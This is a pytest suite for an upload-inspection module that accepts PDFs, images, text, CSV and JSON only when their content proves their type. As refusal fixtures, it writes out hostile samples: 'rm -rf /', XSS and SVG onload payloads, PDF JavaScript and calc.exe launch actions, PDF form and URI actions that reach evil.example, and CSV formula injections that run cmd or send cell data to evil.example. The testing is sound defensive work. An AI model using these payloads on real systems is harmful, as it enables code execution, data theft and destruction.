"""Inspecting uploads: PDFs, images and text are accepted only when their content proves them.

Every file is built here, in the test's tmp_path; the archive and Office cases are in
test_files_inspection_archives.py.
"""

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from isms.files.inspection import InspectedFile, UnacceptableFileError, inspect_file


def write(tmp_path: Path, data: bytes) -> Path:
    path = tmp_path / "upload"
    path.write_bytes(data)
    return path


def refusal(path: Path, filename: str) -> UnacceptableFileError:
    with pytest.raises(UnacceptableFileError) as caught:
        inspect_file(path, filename=filename)
    return caught.value


def assert_refused(path: Path, filename: str, code: str) -> str:
    error = refusal(path, filename)
    message = str(error.message)
    assert (error.code, message.startswith(f"{filename} ")) == (code, True), message
    return message


def pdf_bytes(writer: PdfWriter | None = None) -> bytes:
    if writer is None:
        writer = PdfWriter()
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def blank_writer() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def image_bytes(format: str, size: tuple[int, int] = (64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, color=(200, 30, 30)).save(buffer, format)
    return buffer.getvalue()


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares a huge canvas but holds a few bytes: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


# Accepted ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "filename", "media_type", "extension"),
    [
        (pdf_bytes(), "policy.pdf", "application/pdf", "pdf"),
        (image_bytes("PNG"), "diagram.png", "image/png", "png"),
        (image_bytes("JPEG"), "photo.jpeg", "image/jpeg", "jpg"),
        (b"Backups ran nightly.\n", "notes.txt", "text/plain", "txt"),
        (b"control,owner\nA.5.1,CISO\n", "controls.csv", "text/csv", "csv"),
        (b'{"controls": ["A.5.1"]}', "export.json", "application/json", "json"),
        (b"# Review\n\n- done\n", "review.md", "text/markdown", "md"),
        (b"# Review\n", "review.markdown", "text/markdown", "md"),
        (zip_bytes({"logs/a.txt": b"ok"}), "logs.zip", "application/zip", "zip"),
    ],
)
def test_it_accepts_each_allowed_type_with_our_media_type_and_extension(
    tmp_path: Path, data: bytes, filename: str, media_type: str, extension: str
) -> None:
    inspected = inspect_file(write(tmp_path, data), filename=filename)

    assert (inspected.media_type, inspected.extension) == (media_type, extension)


def test_it_returns_a_frozen_description(tmp_path: Path) -> None:
    inspected = inspect_file(write(tmp_path, pdf_bytes()), filename="policy.pdf")

    assert inspected == InspectedFile("application/pdf", "pdf", "PDF document")
    with pytest.raises(AttributeError):
        inspected.extension = "exe"  # type: ignore[misc]


def test_it_decides_binary_types_from_content_when_the_name_has_no_known_extension(
    tmp_path: Path,
) -> None:
    assert inspect_file(write(tmp_path, pdf_bytes()), filename="scan").extension == "pdf"
    assert inspect_file(write(tmp_path, image_bytes("PNG")), filename="scan.bin").extension == (
        "png"
    )


def test_it_calls_unnamed_text_plain_text(tmp_path: Path) -> None:
    inspected = inspect_file(write(tmp_path, b"a,b\n1,2\n"), filename="export")

    assert inspected.media_type == "text/plain"


# Names and content that disagree ----------------------------------------------------------------


def test_it_refuses_an_executable_named_pdf(tmp_path: Path) -> None:
    data = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"PE\x00\x00" + b"\x00" * 400

    message = assert_refused(write(tmp_path, data), "invoice.pdf", "type_not_allowed")

    assert message == "invoice.pdf is not a PDF document: its content is a Windows executable."


def test_it_refuses_a_gif_javascript_polyglot_named_png(tmp_path: Path) -> None:
    data = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);"

    message = assert_refused(write(tmp_path, data), "avatar.png", "type_not_allowed")

    assert "GIF image" in message


def test_it_refuses_a_png_named_jpeg(tmp_path: Path) -> None:
    message = assert_refused(write(tmp_path, image_bytes("PNG")), "photo.jpg", "type_mismatch")

    assert message == "photo.jpg is not a JPEG image: its content is a PNG image."


def test_it_refuses_text_named_pdf_and_a_pdf_named_txt(tmp_path: Path) -> None:
    assert_refused(write(tmp_path, b"just words\n"), "report.pdf", "type_mismatch")
    assert_refused(write(tmp_path, pdf_bytes()), "notes.txt", "type_mismatch")


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "notes.txt"),
        (b"<script>fetch('/admin')</script>", "notes.txt"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "logo.svg"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "readme.md"),
        (b"\xef\xbb\xbf  <html><p>hi</p></html>", "notes.txt"),
        (b"#!/bin/sh\nrm -rf /\n", "cleanup.txt"),
        (b"#!/usr/bin/env python3\nimport os\n", "notes.md"),
        (b"console.log('hi');\n", "tool.js"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024, "budget.xls"),
        (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "spacer"),
    ],
)
def test_it_refuses_what_is_not_on_the_allow_list(
    tmp_path: Path, data: bytes, filename: str
) -> None:
    assert_refused(write(tmp_path, data), filename, "type_not_allowed")


@pytest.mark.parametrize(
    "data",
    [b'<iframe src="https://attacker.example"></iframe>', b"\xef\xbb\xbf<svg onload=alert(1)>"],
)
def test_it_refuses_markup_that_libmagic_calls_plain_text(tmp_path: Path, data: bytes) -> None:
    message = assert_refused(write(tmp_path, data), "notes.txt", "type_not_allowed")

    assert "HTML, SVG or XML" in message


def test_it_refuses_an_empty_file(tmp_path: Path) -> None:
    assert_refused(write(tmp_path, b""), "empty.txt", "empty_file")


def test_it_does_not_call_a_missing_file_malformed(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        inspect_file(tmp_path / "gone", filename="policy.pdf")


def test_it_names_the_file_safely_in_messages(tmp_path: Path) -> None:
    filename = "\x1b[31mevil\r\n" + "x" * 200 + ".pdf"

    message = refusal(write(tmp_path, b"words\n"), filename).message

    assert message.startswith("[31mevilxxx")
    assert not any(character in message for character in "\x1b\r\n")
    assert len(message.split(" is not ")[0]) <= 80


# PDF ---------------------------------------------------------------------------------------------


def test_it_refuses_a_pdf_with_javascript(tmp_path: Path) -> None:
    writer = blank_writer()
    writer.add_open_action(JavaScript("app.alert('hello');"))

    message = assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")

    assert "JavaScript" in message


def test_it_refuses_a_pdf_that_launches_a_program_when_opened(tmp_path: Path) -> None:
    writer = blank_writer()
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(launch)

    message = assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")

    assert "launches a program" in message


def test_it_refuses_a_pdf_page_action_with_javascript(tmp_path: Path) -> None:
    writer = blank_writer()
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})

    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")


def test_it_refuses_a_launch_action_whose_type_is_an_indirect_name(tmp_path: Path) -> None:
    writer = blank_writer()
    launch = DictionaryObject(
        {
            NameObject("/S"): writer._add_object(NameObject("/Launch")),
            NameObject("/F"): TextStringObject("calc.exe"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = launch

    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")


def test_it_refuses_a_pdf_with_an_embedded_file(tmp_path: Path) -> None:
    writer = blank_writer()
    writer.add_attachment("payload.exe", b"MZ")

    message = assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")

    assert "embedded files" in message


def test_it_accepts_a_pdf_with_a_plain_open_action(tmp_path: Path) -> None:
    writer = blank_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject({NameObject("/S"): NameObject("/GoTo")})
    )

    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"


def action(kind: str, **entries: Any) -> DictionaryObject:
    """A PDF action dictionary: ``/S`` names its kind, ``entries`` its other keys."""
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): value for key, value in entries.items()}
    )


# What each action that reaches outside the file needs beside its /S.
REACHING_OUT: dict[str, dict[str, Any]] = {
    "URI": {"URI": TextStringObject("https://evil.example/opened?doc=1")},
    "SubmitForm": {"F": TextStringObject("https://evil.example/collect")},
    "ImportData": {"F": TextStringObject("\\\\203.0.113.9\\share\\x.fdf")},
    "GoToR": {"F": TextStringObject("https://evil.example/other.pdf"), "D": ArrayObject()},
}


def reaching_out(kind: str) -> DictionaryObject:
    return action(f"/{kind}", **REACHING_OUT[kind])


@pytest.mark.parametrize("kind", REACHING_OUT)
def test_it_refuses_an_open_action_that_reaches_outside_the_file(tmp_path: Path, kind: str) -> None:
    writer = blank_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(reaching_out(kind))

    message = assert_refused(
        write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action"
    )

    assert f"by itself when it is opened or viewed (an automatic {kind} action)" in message


def test_it_names_what_an_automatic_uri_action_does(tmp_path: Path) -> None:
    writer = blank_writer()
    writer._root_object[NameObject("/OpenAction")] = reaching_out("URI")

    message = assert_refused(
        write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action"
    )

    assert message == (
        "policy.pdf opens a web address by itself when it is opened or viewed (an automatic URI "
        "action), which we do not accept; save it again without it (for example by printing it "
        "to a new PDF)."
    )


@pytest.mark.parametrize("where", ["catalog", "page", "annotation"])
def test_it_refuses_additional_actions_that_reach_outside_the_file(
    tmp_path: Path, where: str
) -> None:
    writer = blank_writer()
    triggers = DictionaryObject({NameObject("/WC"): writer._add_object(reaching_out("SubmitForm"))})
    if where == "catalog":
        writer._root_object[NameObject("/AA")] = triggers
    elif where == "page":
        writer.pages[0][NameObject("/AA")] = writer._add_object(triggers)
    else:
        widget = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/AA"): DictionaryObject({NameObject("/PO"): reaching_out("URI")}),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(widget)])

    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action")


def test_it_follows_an_open_action_to_the_actions_it_chains(tmp_path: Path) -> None:
    writer = blank_writer()
    uri = writer._add_object(reaching_out("URI"))
    go_to = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference]), Next=uri)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(go_to)

    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_automatic_action")


def test_it_refuses_an_open_action_that_chains_to_itself(tmp_path: Path) -> None:
    writer = blank_writer()
    go_to = writer._add_object(action("/GoTo", D=ArrayObject()))
    go_to.get_object()[NameObject("/Next")] = go_to
    writer._root_object[NameObject("/OpenAction")] = go_to

    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "malformed")


def test_it_refuses_javascript_in_the_names_tree(tmp_path: Path) -> None:
    writer = blank_writer()
    script = writer._add_object(action("/JavaScript", JS=TextStringObject("app.alert(1)")))
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("start"), script])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(names)}
    )

    message = assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "pdf_active_content")

    assert "JavaScript" in message


def test_it_accepts_an_open_action_that_is_a_page_of_the_document(tmp_path: Path) -> None:
    writer = blank_writer()
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])

    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"


def test_it_accepts_a_link_the_reader_clicks_to_the_web(tmp_path: Path) -> None:
    writer = blank_writer()
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://www.iso.org/"))

    assert inspect_file(write(tmp_path, pdf_bytes(writer)), filename="p.pdf").extension == "pdf"


def test_it_refuses_a_pdf_with_a_zip_appended(tmp_path: Path) -> None:
    data = pdf_bytes() + zip_bytes({"run.js": b"alert(1)"})

    assert_refused(write(tmp_path, data), "policy.pdf", "trailing_data")


def test_it_accepts_an_incrementally_updated_pdf_with_trailing_whitespace(tmp_path: Path) -> None:
    original = write(tmp_path, pdf_bytes())
    writer = PdfWriter(original, incremental=True)
    writer.add_metadata({"/Title": "Reviewed"})
    updated = tmp_path / "updated.pdf"
    updated.write_bytes(pdf_bytes(writer) + b"\r\n\x00  \n")

    assert updated.read_bytes().count(b"%%EOF") == 2
    assert inspect_file(updated, filename="policy.pdf").extension == "pdf"


def test_it_refuses_an_encrypted_pdf(tmp_path: Path) -> None:
    writer = blank_writer()
    writer.encrypt("secret", algorithm="RC4-128")

    assert_refused(write(tmp_path, pdf_bytes(writer)), "policy.pdf", "encrypted")


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer <<>>\n%%EOF\n",
        pdf_bytes()[:400] + b"\n%%EOF",
        b"%PDF-1.4\n" + bytes(range(256)) * 20 + b"\n%%EOF\n",
    ],
)
def test_it_refuses_a_broken_pdf_as_malformed(tmp_path: Path, data: bytes) -> None:
    assert_refused(write(tmp_path, data), "policy.pdf", "malformed")


# Images ------------------------------------------------------------------------------------------


def test_it_refuses_a_png_decompression_bomb(tmp_path: Path) -> None:
    data = png_header_only(20_000, 20_000)
    assert len(data) < 200

    message = assert_refused(write(tmp_path, data), "diagram.png", "image_too_large")

    assert "50 megapixels" in message


def test_it_refuses_an_image_over_the_configured_pixel_limit(tmp_path: Path, settings: Any) -> None:
    settings.EVIDENCE_MAX_IMAGE_PIXELS = 1000
    small = write(tmp_path, image_bytes("JPEG", size=(30, 30)))
    inspect_file(small, filename="a.jpg")
    larger = write(tmp_path, image_bytes("JPEG", size=(40, 30)))

    assert_refused(larger, "b.jpg", "image_too_large")


def test_it_refuses_a_truncated_jpeg(tmp_path: Path) -> None:
    data = image_bytes("JPEG", size=(400, 300))

    assert_refused(write(tmp_path, data[: len(data) // 2]), "photo.jpg", "malformed")


def test_it_refuses_a_png_with_a_corrupted_chunk(tmp_path: Path) -> None:
    data = bytearray(image_bytes("PNG"))
    data[40] ^= 0xFF

    assert_refused(write(tmp_path, bytes(data)), "diagram.png", "malformed")


@pytest.mark.parametrize("format", ["PNG", "JPEG"])
def test_it_refuses_an_image_with_a_file_appended(tmp_path: Path, format: str) -> None:
    data = image_bytes(format) + zip_bytes({"x.html": b"<script>alert(1)</script>"})

    assert_refused(write(tmp_path, data), "image", "trailing_data")


def test_it_accepts_a_jpeg_padded_after_its_end(tmp_path: Path) -> None:
    data = image_bytes("JPEG") + b"\x00" * 32

    assert inspect_file(write(tmp_path, data), filename="photo.jpg").media_type == "image/jpeg"


# Text --------------------------------------------------------------------------------------------


def test_it_refuses_text_that_is_not_utf8(tmp_path: Path) -> None:
    data = "Prüfbericht für das Audit\n".encode("latin-1")

    message = assert_refused(write(tmp_path, data), "notes.txt", "malformed")

    assert "UTF-8" in message


def test_it_refuses_invalid_utf8_after_the_first_chunk(tmp_path: Path) -> None:
    data = b"a" * (3 * 1024 * 1024) + b"\xc3\x28 end\n"

    assert_refused(write(tmp_path, data), "big.txt", "malformed")


def test_it_accepts_a_character_split_across_chunks_and_a_bom(tmp_path: Path) -> None:
    data = b"\xef\xbb\xbf" + b"a" * (1024 * 1024 - 4) + "é and more\n".encode()

    assert inspect_file(write(tmp_path, data), filename="big.txt").media_type == "text/plain"


def test_it_refuses_nul_bytes_deep_in_a_text_file(tmp_path: Path) -> None:
    data = b"line\n" * 400_000 + b"\x00"

    message = assert_refused(write(tmp_path, data), "notes.txt", "malformed")

    assert "NUL" in message


def test_it_refuses_json_that_does_not_parse(tmp_path: Path) -> None:
    assert_refused(write(tmp_path, b'{"controls": [1, 2,}'), "export.json", "malformed")


def test_it_refuses_json_nested_beyond_the_parser(tmp_path: Path) -> None:
    assert_refused(write(tmp_path, b"[" * 200_000 + b"]" * 200_000), "deep.json", "malformed")


def test_it_refuses_json_over_the_configured_size(tmp_path: Path, settings: Any) -> None:
    settings.EVIDENCE_MAX_JSON_BYTES = 100

    assert_refused(write(tmp_path, b'{"a": "' + b"x" * 200 + b'"}'), "a.json", "too_large")


def test_it_refuses_a_csv_the_csv_module_cannot_read(tmp_path: Path) -> None:
    data = b'name,note\nA,"' + b"x" * 200_000 + b'"\n'

    assert_refused(write(tmp_path, data), "controls.csv", "malformed")


def test_it_refuses_a_csv_line_too_long_to_read_safely(tmp_path: Path) -> None:
    data = b"a," * (1024 * 1024) + b"\n"

    message = assert_refused(write(tmp_path, data), "controls.csv", "malformed")

    assert "line over 1 MB" in message


# CSV formulas (OWASP "CSV injection") -------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        b'=HYPERLINK("https://evil.example/?"&A1,"report")',
        b"+cmd|' /C calc'!A0",
        b"-2+3+cmd|' /C calc'!A0",
        b"@SUM(1+9)*cmd|' /C calc'!A0",
        b'"\t=1+1"',
        b'"\r=1+1"',
        b'"=WEBSERVICE(""https://evil.example"")"',
        b"- none",
    ],
)
def test_it_refuses_a_csv_cell_that_a_spreadsheet_runs_as_a_formula(
    tmp_path: Path, cell: bytes
) -> None:
    data = b"host,finding\nweb-1,none\ndb-1," + cell + b"\n"

    message = assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")

    assert message == (
        "hosts.csv has a cell in row 3 that a spreadsheet would run as a formula (it starts with "
        "=, +, -, @ or a tab), which can run commands or send data away when the file is opened; "
        "export it with such cells as text, or as PDF."
    )


def test_it_reads_a_csv_to_its_end_for_formulas(tmp_path: Path) -> None:
    data = b"host,finding\n" + b"web,none\n" * 50_000 + b"db,=1+1\n"

    message = assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")

    assert "in row 50,002 " in message


@pytest.mark.parametrize("separator", [b";", b"\t"])
def test_it_finds_a_formula_behind_another_list_separator(tmp_path: Path, separator: bytes) -> None:
    # Norwegian Excel splits a .csv on semicolons: "web;=1+1" is two cells there, one a formula.
    data = b"host" + separator + b"finding\nweb" + separator + b"=1+1\n"

    assert_refused(write(tmp_path, data), "hosts.csv", "csv_formula")


def test_it_accepts_numbers_signs_and_formulas_inside_text(tmp_path: Path) -> None:
    data = (
        b"host,delta,phone,note,empty\n"
        b"web-1,-5,+47 22 33 44 55,a = b,\n"
        b'db-1,+1.5e3,-,"says ""=1+1"" in the middle",-12%\n'
        b"mail,-0.25,+,user@vendela.example,\n"
    )

    assert inspect_file(write(tmp_path, data), filename="hosts.csv").extension == "csv"


def test_it_leaves_formulas_in_plain_text_alone(tmp_path: Path) -> None:
    data = b"=1+1\n@here see the CSV\n"

    assert inspect_file(write(tmp_path, data), filename="notes.txt").extension == "txt"
